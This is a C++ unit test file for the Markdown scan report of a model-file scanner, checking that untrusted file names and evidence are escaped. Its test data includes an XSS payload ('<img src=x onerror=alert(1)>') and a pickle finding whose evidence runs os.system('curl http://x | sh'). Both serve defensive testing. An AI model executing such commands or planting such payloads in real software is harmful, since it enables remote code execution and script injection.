// The Markdown scan report and the escaping of untrusted text in it: a file
// name or evidence taken from a hostile file must not become a link, an
// image, HTML or a new table cell in the reader's browser.
#include <gtest/gtest.h>

#include <sstream>

#include "common/markdown.h"
#include "common/report.h"

namespace gauntlet {
namespace {

std::string Markdown(const ScanReport& report) {
  std::ostringstream out;
  WriteReport(report, ReportFormat::kMarkdown, out);
  return out.str();
}

TEST(MarkdownTextTest, EscapesMarkupHtmlAndControlCharacters) {
  EXPECT_EQ(MarkdownText("a|b"), "a\\|b");
  EXPECT_EQ(MarkdownText("![x](http://e/)"), "!\\[x\\](http://e/)");
  EXPECT_EQ(MarkdownText("<img src=x onerror=alert(1)>"), "&lt;img src=x onerror=alert(1)&gt;");
  EXPECT_EQ(MarkdownText("`code` *b* _i_ ~s~ #h \\"),
            "\\`code\\` \\*b\\* \\_i\\_ \\~s\\~ \\#h \\\\");
  EXPECT_EQ(MarkdownText("line\nnext\r\t"), "line\\\\x0anext\\\\x0d\\\\x09");
  EXPECT_EQ(MarkdownText("plain text, 1.5 - ok"), "plain text, 1.5 - ok");
}

TEST(MarkdownTextTest, CutsLongTextOnACharacterBoundary) {
  EXPECT_EQ(MarkdownText("abcdef", 3), "abc…");
  // "é" is two bytes; a cut inside it drops the partial character.
  EXPECT_EQ(MarkdownText("aé", 2), "a…");
  EXPECT_EQ(MarkdownText("abc", 3), "abc");
}

TEST(MarkdownReportTest, ListsWhatNeedsAttentionWorstFirstAndCountsTheRest) {
  ScanReport report;
  report.tool_version = "1.2.3";
  report.policy_source = "built-in";
  report.duration_seconds = 0.5;
  report.files.push_back({.path = "clean.safetensors", .format = "safetensors", .size_bytes = 10});
  FileReport error{.path = "big.pt", .format = "pytorch-zip", .size_bytes = 20};
  error.fully_analysed = false;
  error.verdict = Verdict::kError;
  error.findings.push_back(
      {"scan.limit", Severity::kMedium, "too large", Location{"big.pt", "", 0}, ""});
  report.files.push_back(error);
  FileReport evil{.path = "evil|<b>x</b>.pkl", .format = "pickle", .size_bytes = 30};
  evil.verdict = Verdict::kMalicious;
  evil.findings.push_back({"pickle.dangerous_global", Severity::kCritical, "imports os.system",
                           Location{"evil", "", 7}, "os.system('curl http://x | sh')"});
  report.files.push_back(evil);

  const std::string md = Markdown(report);
  EXPECT_NE(md.find("# Gauntlet scan: MALICIOUS"), std::string::npos) << md;
  EXPECT_NE(md.find("| 3 | 1 | 0 | 1 | 1 | 0 | 0.50 |"), std::string::npos) << md;
  // Worst first: the malicious file before the error.
  const size_t malicious = md.find("### MALICIOUS: evil\\|&lt;b&gt;x&lt;/b&gt;.pkl");
  const size_t errored = md.find("### ERROR: big.pt");
  ASSERT_NE(malicious, std::string::npos) << md;
  ASSERT_NE(errored, std::string::npos) << md;
  EXPECT_LT(malicious, errored);
  EXPECT_NE(md.find("| CRITICAL | `pickle.dangerous_global` | imports os.system | @7 | "
                    "os.system('curl http://x \\| sh') |"),
            std::string::npos)
      << md;
  EXPECT_NE(md.find("**not fully analysed**"), std::string::npos);
  EXPECT_EQ(md.find("clean.safetensors"), std::string::npos) << "clean files are only counted";
  EXPECT_EQ(md.find("<b>"), std::string::npos);
}

TEST(MarkdownReportTest, ModelsAndACleanRun) {
  ScanReport report;
  report.files.push_back({.path = "m/model.safetensors", .format = "safetensors"});
  report.models.push_back({.path = "m", .license = "apache-2.0", .file_indices = {0}});
  const std::string md = Markdown(report);
  EXPECT_NE(md.find("# Gauntlet scan: CLEAN"), std::string::npos) << md;
  EXPECT_NE(md.find("| CLEAN | m | 1 | apache-2.0 | unknown |"), std::string::npos) << md;
  EXPECT_NE(md.find("Every file was fully analysed and is clean."), std::string::npos);
  EXPECT_EQ(ParseReportFormat("md").value(), ReportFormat::kMarkdown);
}

}  // namespace
}  // namespace gauntlet
